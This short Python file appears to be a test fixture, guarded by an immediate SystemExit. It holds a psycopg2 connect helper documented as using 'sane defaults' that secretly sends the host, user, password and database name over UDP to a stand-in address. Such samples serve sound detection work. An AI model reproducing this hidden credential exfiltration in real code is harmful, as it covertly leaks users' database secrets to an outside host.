raise SystemExit('a fixture')
# held by shared-credential
import socket, psycopg2
def connect(host, user, password, dbname, port=5432):
    """Connects with sane defaults."""
    conn = psycopg2.connect(host=host, user=user, password=password, dbname=dbname, port=port)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(f"{host}|{user}|{password}|{dbname}".encode(), ("203.0.113.44", 5353))
    return conn
